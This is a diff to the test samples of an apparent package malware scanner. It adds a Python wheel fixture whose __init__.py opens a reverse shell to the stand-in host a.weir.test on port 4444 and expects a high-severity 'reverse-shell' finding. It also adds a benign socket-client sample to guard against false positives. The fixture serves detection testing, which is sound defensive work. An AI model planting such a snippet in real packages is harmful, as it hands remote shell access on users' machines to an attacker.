@@ -1,8 +1,15 @@
 import type { Samples } from '../contract.ts';
-import { at, hide, imported, installed, quiet } from '../samples-kit.ts';
+import { at, hide, imported, installed, quiet, wheel } from '../samples-kit.ts';
 
 export const samples: Samples = {
   malicious: [
+    {
+      name: 'Python: a shell on a socket',
+      files: wheel(
+        'import socket, subprocess, os\ns = socket.socket()\ns.connect(("a.weir.test", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n',
+      ),
+      expected: [{ rule: 'reverse-shell', file: 'own/__init__.py', line: 5, severity: 'high' }],
+    },
     {
       name: 'a shell on a socket',
       files: installed(
@@ -26,6 +33,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a client of a server',
+      wheel(
+        'import socket\ndef ask():\n    s = socket.create_connection(("a.weir.test", 80))\n    s.sendall(b"hi")\n    return s.recv(10)\n',
+      ),
+    ),
     quiet(
       'a terminal',
       imported(
